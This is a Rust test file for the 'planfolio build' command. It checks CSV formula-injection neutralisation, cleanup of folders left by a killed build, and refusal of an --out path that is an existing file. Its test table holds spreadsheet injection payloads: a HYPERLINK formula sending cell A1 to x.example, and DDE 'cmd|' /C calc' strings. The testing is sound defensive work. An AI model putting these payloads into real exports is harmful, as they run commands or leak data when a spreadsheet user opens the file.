//! Hardening of `planfolio build` (issue 11, points 1, 4 and 5): formula
//! injection in `portfolio.csv`, leftovers of a build killed with `kill -9`,
//! and `--out` naming an existing file.
//!
//! Expected cells and folder names are written out by hand from the rules
//! (OWASP's CSV injection advice, SPEC §8 and §9), never copied from output.

use crate::common;
use common::{Site, code, plan_with, stderr, stdout};
use std::path::Path;
use std::process::{Command, Output};

/// `planfolio --root <root> build --out <out> --today 2026-11-23`.
fn build(root: &Path, out: &Path) -> Output {
    Command::new(env!("CARGO_BIN_EXE_planfolio"))
        .env_remove("SOURCE_DATE_EPOCH")
        .env_remove("NO_COLOR")
        .arg("--root")
        .arg(root)
        .arg("build")
        .arg("--out")
        .arg(out)
        .args(["--today", common::TODAY])
        .output()
        .expect("run planfolio build")
}

#[track_caller]
fn assert_built(o: &Output) {
    assert_eq!(
        code(o),
        0,
        "build failed\nstdout:\n{}\nstderr:\n{}",
        stdout(o),
        stderr(o)
    );
}

// ---------------------------------------------------------------------------
// 1. Formula injection in portfolio.csv

/// Plan names a spreadsheet would run as formulas, each as a YAML scalar,
/// with the cell `portfolio.csv` must hold for it: a `'` before the name
/// (OWASP), then the usual CSV quoting (a cell holding `"`, `,`, CR or LF is
/// quoted, its `"` doubled).
const FORMULA_NAMES: &[(&str, &str, &str)] = &[
    (
        "hyperlink",
        r#"'=HYPERLINK("http://x.example/?"&A1,"Click")'"#,
        r#""'=HYPERLINK(""http://x.example/?""&A1,""Click"")""#,
    ),
    ("dde", r#""+cmd|' /C calc'!A0""#, "'+cmd|' /C calc'!A0"),
    ("minus", r#""-2+3+cmd|' /C calc'!A0""#, "'-2+3+cmd|' /C calc'!A0"),
    (
        "at-sum",
        r#""@SUM(1+1)*cmd|' /C calc'!A0""#,
        "'@SUM(1+1)*cmd|' /C calc'!A0",
    ),
    // A TAB needs no CSV quoting; a CR does.
    ("tab", r#""\t=1+1""#, "'\t=1+1"),
    ("cr", r#""\r=1+1""#, "\"'\r=1+1\""),
];

#[test]
fn csv_cells_that_start_a_formula_are_neutralised() {
    let site = Site::with_team();
    for (id, yaml_name, _) in FORMULA_NAMES {
        site.plan(
            id,
            &plan_with(&[("name: Deepwell Solutions", &format!("name: {yaml_name}"))]),
        );
    }
    // A harmless name stays exactly as written.
    site.plan("plain", &plan_with(&[("name: Deepwell Solutions", "name: Plain Name")]));
    let parent = tempfile::tempdir().expect("tempdir");
    let out = parent.path().join("public");
    assert_built(&build(site.root(), &out));
    let csv = std::fs::read_to_string(out.join("portfolio.csv")).expect("portfolio.csv");
    // Column 2 is the name; column 3 the owner (SPEC §9).
    for (id, _, cell) in FORMULA_NAMES {
        let row_start = format!("\n{id},{cell},alex-king,");
        assert!(
            csv.contains(&row_start),
            "row of {id}: expected it to start {row_start:?}; portfolio.csv:\n{csv}"
        );
    }
    assert!(csv.contains("\nplain,Plain Name,alex-king,"), "portfolio.csv:\n{csv}");
}

#[test]
fn csv_negative_numbers_stay_numbers() {
    let site = Site::valid();
    let mut analysis = site.analyse();
    common::assert_no_errors(&analysis);
    // No valid plan yields a negative amount today; set them by hand so the
    // writer is tested on what a future signed figure would look like.
    analysis.portfolio.accounts[0].money.own.potential_value = -1234.5;
    analysis.portfolio.accounts[0].money.own.weighted_pipeline = -0.25;
    let csv = planfolio::render::portfolio_csv(&analysis);
    let row = csv.lines().nth(1).expect("one account row");
    let cells: Vec<&str> = row.split(',').collect();
    // id,name,owner,segment,relationship,potential,potential_value,weighted_pipeline,...
    assert_eq!(cells[0], "deepwell");
    assert_eq!(cells[6], "-1234.5", "potential_value in {row:?}");
    assert_eq!(cells[7], "-0.25", "weighted_pipeline in {row:?}");
    assert!(!row.contains('\''), "no cell of {row:?} is prefixed");
}

// ---------------------------------------------------------------------------
// 4. Leftovers of a killed build

/// The pid of a process that has ended (spawned, waited for, so reaped).
fn dead_pid() -> u32 {
    let mut child = Command::new("true").spawn().expect("spawn true");
    let pid = child.id();
    child.wait().expect("wait for true");
    pid
}

fn write_file(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().expect("parent")).expect("create folders");
    std::fs::write(path, text).expect("write");
}

#[test]
#[cfg(target_os = "linux")]
fn leftovers_of_a_dead_build_are_removed_and_a_live_builds_kept() {
    let site = Site::valid();
    let parent = tempfile::tempdir().expect("tempdir");
    let out = parent.path().join("public");
    let dead = dead_pid();
    assert!(
        !Path::new(&format!("/proc/{dead}")).exists(),
        "pid {dead} must be gone for this test"
    );
    // What `kill -9` left: a half-written new site and a previous site moved aside.
    let dead_new = parent.path().join(format!(".public.planfolio-new-{dead}"));
    let dead_old = parent.path().join(format!(".public.planfolio-old-{dead}"));
    write_file(&dead_new.join("accounts/x/index.html"), "half");
    write_file(&dead_old.join("index.html"), "previous");
    // A running build's folder (this test process is alive): never touched.
    let live = parent
        .path()
        .join(format!(".public.planfolio-new-{}", std::process::id()));
    write_file(&live.join("index.html"), "in progress");
    // A leftover that is a symlink: removed as a link, its target untouched.
    let victim = tempfile::tempdir().expect("tempdir");
    write_file(&victim.path().join("keep/me.txt"), "keep");
    let dead2 = dead_pid();
    let link = parent.path().join(format!(".public.planfolio-old-{dead2}"));
    std::os::unix::fs::symlink(victim.path(), &link).expect("symlink");
    // Not a pid: not ours to judge.
    let odd = parent.path().join(".public.planfolio-new-notapid");
    write_file(&odd.join("index.html"), "odd");

    assert_built(&build(site.root(), &out));

    assert!(out.join("index.html").is_file(), "the site was built");
    assert!(!dead_new.exists(), "{} was left", dead_new.display());
    assert!(!dead_old.exists(), "{} was left", dead_old.display());
    assert!(
        std::fs::symlink_metadata(&link).is_err(),
        "{} (a symlink) was left",
        link.display()
    );
    assert_eq!(
        std::fs::read_to_string(victim.path().join("keep/me.txt")).expect("the link's target survives"),
        "keep"
    );
    assert_eq!(
        std::fs::read_to_string(live.join("index.html")).expect("the live build's folder survives"),
        "in progress"
    );
    assert!(odd.join("index.html").is_file(), "a name without a pid is left alone");
}

// ---------------------------------------------------------------------------
// 5. --out naming a file

#[test]
fn out_that_is_a_file_is_refused_and_left_alone() {
    let site = Site::valid();
    let parent = tempfile::tempdir().expect("tempdir");
    let notes = parent.path().join("notes.txt");
    std::fs::write(&notes, "my notes\n").expect("write notes");
    let o = build(site.root(), &notes);
    assert_eq!(code(&o), 2, "stdout:\n{}\nstderr:\n{}", stdout(&o), stderr(&o));
    assert!(
        stderr(&o).contains("notes.txt"),
        "the error names the file: {}",
        stderr(&o)
    );
    assert!(notes.is_file(), "notes.txt is still a file");
    assert_eq!(std::fs::read_to_string(&notes).expect("read notes"), "my notes\n");
    let entries: Vec<String> = std::fs::read_dir(parent.path())
        .expect("read parent")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(entries, vec!["notes.txt".to_string()], "nothing else was written");
}
